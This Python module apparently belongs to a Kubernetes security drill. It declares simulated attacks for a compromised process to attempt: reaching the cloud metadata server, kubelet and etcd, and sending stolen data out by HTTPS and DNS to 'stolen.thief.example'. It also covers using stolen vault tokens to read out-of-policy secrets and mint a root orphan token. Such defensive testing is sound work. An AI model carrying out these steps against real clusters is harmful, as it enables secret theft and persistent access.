"""Attacks over the network: whom a process can reach that it has no business with."""

from collections.abc import Sequence
from typing import Final

from bulkhead_demo.drill.model import BOTH, EVERYBODY, Attack, Process, Topology

_TOKENS: Final = ("/var/run/bulkhead/credentials/token", "/loot/vault-credential/token")


def _connect(
    name: str, does: str, host: str, port: str, *, permitted: str = "", thieves: frozenset[Process] = EVERYBODY
) -> Attack:
    return Attack(
        id=f"network.{name}",
        does=does,
        act="network.connect",
        arguments={"host": host, "port": port},
        thieves=thieves,
        permitted=permitted,
    )


def _page(
    name: str,
    does: str,
    places: str,
    path: str,
    marker: str,
    *,
    whose: Process,
    topologies: frozenset[Topology] = BOTH,
    permitted: str = "",
) -> Attack:
    return Attack(
        id=f"network.{name}",
        does=does,
        act="network.read_page",
        arguments={"places": places, "path": path, "marker": marker},
        thieves=EVERYBODY - {whose},
        topologies=topologies,
        permitted=permitted,
    )


def _ask(
    name: str,
    does: str,
    path: str,
    *,
    host: str = "{openbao}",
    method: str = "GET",
    body: str = "",
    permitted: str = "",
) -> Attack:
    arguments = {"host": host, "port": "8200", "path": path, "method": method, "body": body, "tokens": list(_TOKENS)}
    return Attack(id=f"backend.{name}", does=does, act="network.fetch", arguments=arguments, permitted=permitted)


NETWORK: Final[Sequence[Attack]] = (
    _connect("metadata", "reach the cloud's metadata server", "169.254.169.254", "80"),
    _connect("link-local", "reach another link-local address", "169.254.170.23", "80"),
    _connect("kubelet", "reach the kubelet", "{node_ip}", "{kubelet_port}"),
    _connect("kubelet-read-only", "reach the kubelet's port without authentication", "{node_ip}", "10255"),
    _connect("etcd", "reach etcd on the node", "{node_ip}", "2379"),
    _connect("ssh", "reach the node's own services", "{node_ip}", "22"),
    _connect("api-server", "reach the API server", "{api_host}", "{api_port}", permitted="reach api-server"),
    _connect("backend", "reach the vault provider's backend", "{openbao}", "8200", permitted="reach openbao"),
    _connect("other-backend", "reach a backend that is nobody's", "{other_backend}", "8200"),
    _connect("stranger", "reach another team's Pod", "{stranger}", "8080"),
    _connect("stranger-service", "reach another team's Service", "{stranger_service}", "8080"),
    _connect("outside", "send what it stole out by HTTPS", "{stranger}", "443"),
    Attack(
        id="network.foreign-dns",
        does="ask a name server of its own, in whose names it writes what it stole",
        act="network.ask_name",
        arguments={"server": "{stranger}", "name": "stolen.thief.example"},
    ),
    Attack(
        id="network.cluster-dns",
        does="ask the cluster's name server",
        act="network.ask_name",
        arguments={"server": "{dns}", "name": "kubernetes.default.svc.cluster.local"},
        permitted="reach dns",
    ),
    _page(
        "controller-metrics",
        "read the controller's metrics",
        "127.0.0.1:8080,{controller_ip}:8080",
        "/metrics",
        "externalsecret_",
        whose=Process.CONTROLLER,
        permitted="reach controller-metrics",
    ),
    _page(
        "vault-metrics",
        "read the vault provider's metrics",
        "127.0.0.1:8103,{vault_ip}:8103",
        "/metrics",
        "bulkhead_",
        whose=Process.VAULT,
        permitted="reach vault-metrics",
    ),
    _connect(
        "controller-health",
        "reach the controller's health port",
        "{controller_ip}",
        "8082",
        permitted="reach controller-health",
        thieves=EVERYBODY - {Process.CONTROLLER},
    ),
    _connect(
        "certcontroller-health",
        "reach the certcontroller's health port",
        "{certcontroller_ip}",
        "8082",
        thieves=EVERYBODY - {Process.CERTCONTROLLER},
    ),
    _connect(
        "webhook",
        "reach the webhook as if it were the API server",
        "{webhook_ip}",
        "10250",
        permitted="reach webhook",
        thieves=EVERYBODY - {Process.WEBHOOK},
    ),
    Attack(
        id="network.ask-kubelet",
        does="ask the kubelet for its Pods",
        act="api.call",
        arguments={"server": "{node_ip}:{kubelet_port}", "method": "GET", "path": "/pods"},
    ),
)

BACKENDS: Final[Sequence[Attack]] = (
    _ask(
        "read-policy-key",
        "read at the backend itself what the policy file allows",
        "/v1/secret/data/shop/database",
        permitted="credential vault",
    ),
    _ask("read-other-key", "read at the backend a key outside of the policy file", "/v1/secret/data/hr/payroll"),
    _ask("list-keys", "list the keys of the backend", "/v1/secret/metadata/hr/?list=true"),
    _ask(
        "write-key",
        "write at the backend",
        "/v1/secret/data/shop/drill",
        method="POST",
        body='{{"data": {{"drill": "drill"}}}}',
    ),
    _ask(
        "make-token",
        "make a token at the backend that outlives the theft",
        "/v1/auth/token/create-orphan",
        method="POST",
        body='{{"policies": ["root"], "ttl": "1m"}}',
    ),
    _ask("read-policies", "read the backend's own policies", "/v1/sys/policies/acl/bulkhead-read"),
    _ask("audit", "see where the backend keeps its audit log", "/v1/sys/audit"),
    _ask(
        "other-backend", "use the credential at another backend", "/v1/secret/data/hr/payroll", host="{other_backend}"
    ),
)
